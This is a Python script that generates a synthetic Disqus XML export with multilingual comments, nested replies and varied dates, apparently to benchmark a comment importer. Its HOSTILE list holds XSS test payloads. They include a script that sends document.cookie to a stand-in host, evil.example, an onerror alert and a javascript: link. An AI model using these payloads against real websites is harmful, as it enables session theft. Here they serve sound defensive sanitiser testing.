#!/usr/bin/env python3
"""bench/imports/generate_disqus.py - write a synthetic Disqus export of any size.

    python bench/imports/generate_disqus.py --posts 100000 [--seed 20261128] OUT.xml

The file has the shape of a real export (see voxpop/importers/disqus.py): a category, then
every thread, then every post. --posts posts over max(1, posts // 100) threads; about 45 %
of posts are replies, nested up to 8 levels; about 1 % are replies written before their
parent; 3 % deleted, 2 % spam; 20 % anonymous guests without an e-mail. Bodies are 1 to 4
paragraphs of HTML (links, emphasis, quotes) in German, English, French, Japanese and
Arabic with emoji; now and then hostile HTML (script, onerror, javascript: links). Dates
step forward from 2015 and vary in form (Z, offsets, fractional seconds). About 1 KB a post.

Deterministic for a given --seed and --posts; written as it goes (memory stays flat: only
the ids of the threads in the current window of 20 are kept). Standard library only.
"""

from __future__ import annotations

import argparse
import random
import sys
from datetime import UTC, datetime, timedelta
from typing import TextIO
from xml.sax.saxutils import escape

WINDOW = 20  # threads whose posts are interleaved, as they would be in a real export
SENTENCES = (
    "Die Stadt hat die Zählstellen endlich veröffentlicht, aber die Zahlen überraschen.",
    "Ich wohne seit zwanzig Jahren hier und habe so etwas noch nie erlebt.",
    "Gibt es dazu eine Quelle? Ich finde im Ratsinformationssystem nichts.",
    "Thanks for the thorough reporting, this is why I still pay for local news.",
    "The numbers in the second chart don't add up to 100 %, am I missing something?",
    "Merci pour cet article, très intéressant — mais la conclusion me paraît hâtive.",
    "今年は本当に早いですね。上野公園はもう満開でした。",
    "この記事はとても分かりやすかったです。ありがとうございます。",
    "شكرًا على هذا المقال، المعلومات مفيدة جدًا.",
    "Na ja, Fußgänger haben in dieser Straße auch keine Lobby. 🚶‍♀️",
    "Großartig! 🎉 Endlich tut sich etwas.",
    "Schon wieder eine Baustelle … wer plant so etwas? 🙄",
)
HOSTILE = (
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(document.domain)">mehr Infos</a>',
    '<iframe src="https://evil.example/frame"></iframe>',
    "<style>body{display:none}</style>",
)
NAMES = (
    "Jürgen Müller",
    "Ayşe Özdemir",
    "Grüne Welle Köln",
    "山田 花子",
    "ليلى",
    "Zoë Martin",
    "Verkehrsnerd",
    "Rainer Zufall",
    "Ole Hansen",
    "Fatma Yılmaz",
)


def _body(rng: random.Random) -> str:
    paragraphs = []
    for _ in range(rng.randint(1, 4)):
        text = " ".join(rng.choice(SENTENCES) for _ in range(rng.randint(1, 3)))
        roll = rng.random()
        if roll < 0.15:
            text += ' Siehe <a href="https://www.rheinpost.example/archiv/">das Archiv</a>.'
        elif roll < 0.25:
            text = f"<b>{text}</b>"
        elif roll < 0.32:
            text = f"<blockquote>{text}</blockquote>"
        paragraphs.append(text if text.startswith("<blockquote>") else f"<p>{text}</p>")
    if rng.random() < 0.01:
        paragraphs.append(rng.choice(HOSTILE))
    return "".join(paragraphs)


def _date(rng: random.Random, when: datetime) -> str:
    roll = rng.random()
    if roll < 0.9:
        return when.strftime("%Y-%m-%dT%H:%M:%SZ")
    if roll < 0.95:
        return when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{when.microsecond:06d}Z"
    return (when + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%S+02:00")


def _thread(out: TextIO, key: int, when: datetime) -> None:
    out.write(
        f'  <thread dsq:id="{key}">\n    <id>post-{key}</id>\n    <forum>rheinpost</forum>\n'
        f'    <category dsq:id="1" />\n'
        f"    <link>https://www.rheinpost.example/{when:%Y/%m}/artikel-{key}/</link>\n"
        f"    <title>Artikel {key}: Stadtrat beschließt neue Radwege</title>\n"
        f"    <message />\n    <createdAt>{when:%Y-%m-%dT%H:%M:%SZ}</createdAt>\n"
        f"    <author><name>Redaktion</name><isAnonymous>false</isAnonymous>"
        f"<username>rheinpost</username></author>\n"
        f"    <ipAddress>203.0.113.7</ipAddress>\n    <isClosed>false</isClosed>\n"
        f"    <isDeleted>false</isDeleted>\n  </thread>\n"
    )


def _post(
    out: TextIO, rng: random.Random, key: int, thread: int, parent: int | None, when: datetime
) -> str:
    roll = rng.random()
    spam, deleted = roll < 0.02, 0.02 <= roll < 0.05
    anonymous = rng.random() < 0.2
    name = rng.choice(NAMES)
    email = "" if anonymous else f"    <email>reader{rng.randint(1, 5000)}@example.com</email>\n"
    username = "" if anonymous else f"    <username>reader{key % 5000}</username>\n"
    out.write(
        f'  <post dsq:id="{key}">\n    <id />\n    <message><![CDATA[{_body(rng)}]]></message>\n'
        f"    <createdAt>{_date(rng, when)}</createdAt>\n"
        f"    <isDeleted>{str(deleted).lower()}</isDeleted>\n"
        f"    <isSpam>{str(spam).lower()}</isSpam>\n"
        f"    <author>\n{email}    <name>{escape(name)}</name>\n"
        f"    <isAnonymous>{str(anonymous).lower()}</isAnonymous>\n{username}    </author>\n"
        f"    <ipAddress>198.51.100.{key % 250}</ipAddress>\n"
        f'    <thread dsq:id="{thread}" />\n'
        + (f'    <parent dsq:id="{parent}" />\n' if parent is not None else "")
        + "  </post>\n"
    )
    return "spam" if spam else "deleted" if deleted else "approved"


def write(out: TextIO, posts: int, seed: int = 20261128) -> dict[str, int]:
    """Write the export to ``out``; returns what it holds (posts, threads, replies, ...)."""
    rng = random.Random(seed)
    threads = max(1, posts // 100)
    stats = {"posts": 0, "threads": threads, "replies": 0, "early_replies": 0}
    start = datetime(2015, 1, 1, tzinfo=UTC)
    out.write('<?xml version="1.0" encoding="utf-8"?>\n')
    out.write(
        '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">\n'
        f'  <category dsq:id="1">\n    <forum>rheinpost</forum>\n'
        f"    <title>{escape('General')}</title>\n    <isDefault>true</isDefault>\n"
        "  </category>\n"
    )
    for t in range(threads):
        _thread(out, 1_000_000 + t, start + timedelta(hours=6 * t))
    key = 10_000_000
    when = start

    def emit(post: int, thread: int, parent: int | None) -> None:
        status = _post(out, rng, post, thread, parent, when)
        stats[status] = stats.get(status, 0) + 1
        stats["posts"] += 1
        stats["replies"] += parent is not None

    for first in range(0, threads, WINDOW):
        window = range(first, min(first + WINDOW, threads))
        quota = {t: posts // threads + (1 if t < posts % threads else 0) for t in window}
        quota = {t: n for t, n in quota.items() if n}
        seen: dict[int, list[tuple[int, int]]] = {t: [] for t in window}  # (id, depth)
        while quota:
            t = rng.choice(list(quota))
            thread = 1_000_000 + t
            when += timedelta(seconds=rng.randint(1, 600))
            parent, depth = None, 0
            if seen[t] and rng.random() < 0.45:
                candidate, candidate_depth = rng.choice(seen[t][-30:])
                if candidate_depth < 8:
                    parent, depth = candidate, candidate_depth + 1
            if parent is None and quota[t] >= 2 and rng.random() < 0.01:
                # a reply written before its parent (exports are not always in tree order)
                emit(key + 1, thread, key + 2)
                emit(key + 2, thread, None)
                seen[t] += [(key + 1, 1), (key + 2, 0)]
                stats["early_replies"] += 1
                key += 2
                quota[t] -= 2
            else:
                key += 1
                emit(key, thread, parent)
                seen[t].append((key, depth))
                quota[t] -= 1
            if quota[t] <= 0:
                del quota[t]
    out.write("</disqus>\n")
    return stats


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("out", help="the file to write ('-': standard output)")
    parser.add_argument("--posts", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=20261128)
    args = parser.parse_args(argv)
    if args.out == "-":
        stats = write(sys.stdout, args.posts, args.seed)
    else:
        with open(args.out, "w", encoding="utf-8") as out:
            stats = write(out, args.posts, args.seed)
    print(", ".join(f"{k} {v:,}" for k, v in stats.items()), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
